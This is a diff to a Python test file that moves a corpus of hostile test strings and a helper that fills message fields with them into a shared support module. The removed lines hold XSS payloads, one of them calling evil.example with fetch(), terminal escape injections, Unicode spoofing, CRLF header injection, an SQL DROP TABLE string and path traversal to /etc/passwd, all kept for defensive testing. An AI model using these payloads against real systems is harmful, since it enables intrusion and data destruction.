@@ -32,24 +32,9 @@ from spider.wire.session import NodeOpening
 from tests.support.agent import IDENTITY, AgentClosed, TestAgent, agents, layout_of, pack_of
 from tests.support.attack_tools import wire_texts
 from tests.support.eventually import eventually
+from tests.support.hostile_text import CORPUS, MARK, filled
 from tests.support.hub import Enrolled, HubProcess
 
-MARK = "Canary9"
-CORPUS = [
-    f"<script>alert('{MARK}')</script>",
-    f"<img src=x onerror=\"fetch('//evil.example/{MARK}')\">",
-    f'"><svg/onload=alert(`{MARK}`)>',
-    f"javascript:alert('{MARK}')",
-    f"{{{{constructor.constructor('alert(1)')()}}}} {MARK} ${{7*7}}",
-    f"\x1b]8;;http://evil.example\x07{MARK}\x1b]8;;\x07",
-    f"\x1b]52;c;ZXZpbA==\x07\x1b]0;{MARK}\x07\x1b[2J\x9b31m\x90{MARK}\x9c",
-    f"{MARK}\u202egnp.exe\u2066\u200b\ufeff\U000e0041",
-    f'{MARK}\r\nSet-Cookie: stardust-plain=evil\r\n\r\n{{"event": "{MARK}"}}\u2028\x85',
-    f"{MARK}'; DROP TABLE node; --\x00\\",
-    f"{MARK}%s%n%n../../../etc/passwd",
-    MARK + "A" * 8_000,
-]
-"""Hostile texts: for pages, terminals, readers, logs, databases, paths and memories."""
 LONGEST = 2000
 NAMES = iter(range(1, 10_000))
 
@@ -60,17 +45,6 @@ def tame(text: str) -> bool:
         unicodedata.category(char) in ("Cc", "Cs", "Zl", "Zp") or char in "\u061c\u200b\u200e\u200f\ufeff" or "\u202a" <= char <= "\u202e"
         or "\u2060" <= char <= "\u206f" or "\U000e0000" <= char <= "\U000e007f" for char in text
     )  # fmt: skip
-
-
-def filled(message: Any, text: str) -> Any:
-    """A message with this in every field that holds texts."""
-    changes: dict[str, Any] = {}
-    for name, value in zip(message._fields, message, strict=True):
-        if isinstance(value, str):
-            changes[name] = text
-        elif isinstance(value, list) and all(isinstance(item, str) for item in value):
-            changes[name] = [text] * max(1, len(value))
-    return message._replace(**changes)
 
 
 async def new_node(hub: HubProcess) -> Enrolled:
